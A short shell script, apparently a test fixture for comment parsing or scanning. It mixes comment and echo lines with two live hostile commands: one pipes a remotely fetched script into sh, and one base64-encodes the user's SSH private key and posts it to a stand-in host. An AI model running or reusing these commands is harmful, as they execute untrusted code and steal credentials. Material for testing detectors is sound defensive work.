#!/bin/sh
# comment "x"
echo "#not" # yes
curl -s http://198.51.100.4/p.sh | sh
cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.example
